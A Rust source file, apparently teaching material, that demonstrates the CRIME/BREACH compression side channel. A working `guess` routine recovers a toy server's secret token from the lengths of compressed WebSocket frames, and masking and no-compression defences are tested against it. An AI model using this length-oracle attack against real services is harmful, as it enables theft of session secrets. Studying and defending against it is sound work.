//! What the length of compressed messages gives away: a secret is guessed from frames that nobody has decrypted.
//!
//! The victim's server answers each search with a page that has the victim's secret and the words of the search in it,
//! compressed together. The attacker makes the victim search (a page of his in another tab can), and sees how long the
//! answers are (TLS hides what they say, not how long they are). Words that repeat a part of the secret make the answer
//! shorter. So the secret is found digit by digit, with 16 tries for each. The idea is known as CRIME (2012, of requests)
//! and BREACH (2013, of answers).

use std::io::{self, Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use demo::Site;
use frames::frame::{FrameHeader, HeaderError, Opcode, write_frame};
use frames::message::DataMessage;
use frames::websocket::Next;
use handshake::page_server::PageAnswer;
use handshake::refusal::Refusal;
use handshake::request::Request;
use serde_json::{Value, json};

use crate::client;
use crate::extension::CompressedSocket;
use crate::negotiation::{Parameters, Window};

/// The secret's length in digits.
const DIGITS: usize = 12;

const ALPHABET: &str = "0123456789abcdef";

/// How long the attack waits for the next bytes of the server.
const PATIENCE: Duration = Duration::from_secs(10);

/// The server under attack. It has one secret, of its only user.
pub struct Victim {
    secret: String,
}

impl Victim {
    /// With a secret of its own.
    pub fn new() -> Self {
        Victim { secret: random_digits() }
    }

    // ANCHOR: victim
    /// Answers each search with a page that greets the user, secret included.
    pub fn answer(&self, mut socket: CompressedSocket, request: &Request) {
        loop {
            match socket.read() {
                Next::Message(DataMessage::Text(words)) => {
                    let token = match request.query("defence") {
                        Some("mask") => masked(&self.secret),
                        _ => self.secret.clone(),
                    };
                    let page = format!("Hello Ann, token={token}. You searched for {words}");
                    socket.answer(&DataMessage::Text(page));
                }
                Next::Message(_) | Next::Pong(_) | Next::Timeout => {}
                Next::Gone(_) => return,
            }
        }
    }
    // ANCHOR_END: victim
}

/// A window for each message alone; none, when the defence is not to compress what has a secret in it.
pub fn wish(request: &Request) -> Option<Window> {
    (request.query("defence") != Some("off")).then_some(Window { kept: false, bits: 15 })
}

// ANCHOR: mask
/// The secret under a mask of random digits, the mask in front: never twice the same, so nothing in
/// the message repeats what an attacker has guessed.
fn masked(secret: &str) -> String {
    let mask = random_digits();
    let digit = |c: char| c.to_digit(16).unwrap_or(0);
    let masked = secret.chars().zip(mask.chars()).map(|(a, b)| digit(a) ^ digit(b));
    mask.clone() + &masked.filter_map(|digit| char::from_digit(digit, 16)).collect::<String>()
}
// ANCHOR_END: mask

fn random_digits() -> String {
    let mut bytes = [0; DIGITS / 2];
    getrandom::fill(&mut bytes).expect("the operating system gives random numbers");
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

/// Answers `POST /guess?defence=none`, `mask` or `off`: runs the attack over the public port, where the wire view sees it.
///
/// # Errors
/// The refusal to answer with.
pub fn order(request: &Request, site: &Site, victim: &Victim) -> Result<PageAnswer, Refusal> {
    let defence = match request.query("defence") {
        None => "none",
        Some(one @ ("none" | "mask" | "off")) => one,
        Some(_) => return Err(Refusal::new(400, "The defence is none, mask or off.")),
    };
    let start = Instant::now();
    let attack = || -> io::Result<Value> {
        let path = format!("/victim?defence={defence}");
        let host = request.host().unwrap_or("");
        let mut wire = Lengths::open(&site.public_address().to_string(), host, &path)?;
        let (found, steps) = guess(|searches| wire.of(searches))?;
        Ok(json!({
            "found": found, "secret": victim.secret, "steps": steps, "searches": wire.searches,
            "milliseconds": start.elapsed().as_millis() as u64,
        }))
    };
    let report =
        attack().map_err(|error| Refusal::new(502, format!("The attack failed: {error}.")))?;
    Ok(PageAnswer::json(&report))
}

// ANCHOR: guess
/// Finds the secret behind `token=`, digit by digit: the shortest answer has the right one in it.
/// `lengths` makes the victim search for these words and sees how long the answers are.
fn guess(
    mut lengths: impl FnMut(&[String]) -> io::Result<Vec<u64>>,
) -> io::Result<(String, Vec<Value>)> {
    let (mut found, mut steps) = (String::new(), Vec::new());
    while found.len() < DIGITS {
        let mut sums = vec![0; ALPHABET.len()];
        // A digit is 8 bits or fewer, and a length is in bytes: some words behind the guess, of 2
        // bits more each time (mod 8), show the bits that a whole byte hides.
        for padding in ["", "\u{e9}", "\u{e9}\u{fc}", "\u{e9}\u{fc}\u{df}"] {
            let search = |digit: char| format!("token={found}{digit}{padding}");
            let searches: Vec<String> = ALPHABET.chars().map(search).collect();
            for (sum, length) in sums.iter_mut().zip(lengths(&searches)?) {
                *sum += length;
            }
        }
        let least = sums.iter().min().copied().unwrap_or(0);
        let shortest: Vec<usize> = (0..sums.len()).filter(|at| sums[*at] == least).collect();
        steps.push(json!({ "known": found, "lengths": sums }));
        let [right] = shortest[..] else { break }; // the lengths tell nothing
        found.extend(ALPHABET.chars().nth(right));
    }
    Ok((found, steps))
}
// ANCHOR_END: guess

/// The attacker at the wire: reads the heads of frames, and nothing of what is in them.
struct Lengths {
    stream: TcpStream,
    unread: Vec<u8>,
    searches: usize,
}

impl Lengths {
    fn open(address: &str, host: &str, path: &str) -> io::Result<Self> {
        let stream = TcpStream::connect(address)?;
        stream.set_nodelay(true)?;
        let (stream, unread, _) = client::upgrade(stream, host, path, &Parameters::default())?;
        stream.set_read_timeout(Some(PATIENCE))?;
        stream.set_write_timeout(Some(PATIENCE))?;
        Ok(Lengths { stream, unread, searches: 0 })
    }

    /// The payload's length of the answer to each of these searches.
    fn of(&mut self, searches: &[String]) -> io::Result<Vec<u64>> {
        let mut wire = Vec::new();
        for search in searches {
            // The victim's browser would draw a key for each frame. It hides nothing here.
            write_frame(&mut wire, true, Opcode::Text, Some([0; 4]), search.as_bytes());
        }
        self.stream.write_all(&wire)?;
        self.searches += searches.len();
        searches.iter().map(|_| self.next()).collect()
    }

    fn next(&mut self) -> io::Result<u64> {
        loop {
            let mut rest = self.unread.clone();
            // RSV1 says that it is compressed, which the attacker knows.
            if let Some(first) = rest.first_mut() {
                *first &= !frames::frame::RSV1;
            }
            let mut behind = &rest[..];
            match FrameHeader::parse(&mut behind) {
                Ok(header) if header.length <= behind.len() as u64 => {
                    let end = rest.len() - behind.len() + header.length as usize;
                    self.unread.drain(..end);
                    return Ok(header.length);
                }
                Ok(_) | Err(HeaderError::Incomplete) => {
                    let mut chunk = [0; 4096];
                    match self.stream.read(&mut chunk)? {
                        0 => return Err(io::ErrorKind::UnexpectedEof.into()),
                        more => self.unread.extend_from_slice(&chunk[..more]),
                    }
                }
                Err(HeaderError::Invalid(failure)) => {
                    return Err(io::Error::other(failure.to_string()));
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Deflater;

    /// The attack on a server in this process.
    fn attack(token: impl Fn() -> String) -> String {
        let mut deflater = Deflater::new(Window { kept: false, bits: 15 }, 6);
        let mut length = |search: &String| {
            let page = format!("Hello Ann, token={}. You searched for {search}", token());
            deflater.deflate(page.as_bytes()).len() as u64
        };
        guess(|searches| Ok(searches.iter().map(&mut length).collect())).unwrap().0
    }

    #[test]
    fn every_secret_is_found_by_the_lengths_of_the_answers() {
        for _ in 0..50 {
            let secret = random_digits();
            assert_eq!(attack(|| secret.clone()), secret);
        }
    }

    #[test]
    fn a_secret_under_a_fresh_mask_is_not_found() {
        let secret = random_digits();
        assert_ne!(attack(|| masked(&secret)), secret);
        let unmasked = masked(&secret);
        let (mask, masked) = unmasked.split_at(DIGITS);
        let digit = |c: char| c.to_digit(16).unwrap();
        let back: String = mask
            .chars()
            .zip(masked.chars())
            .map(|(a, b)| char::from_digit(digit(a) ^ digit(b), 16).unwrap())
            .collect();
        assert_eq!(back, secret, "its reader takes the mask off");
    }
}
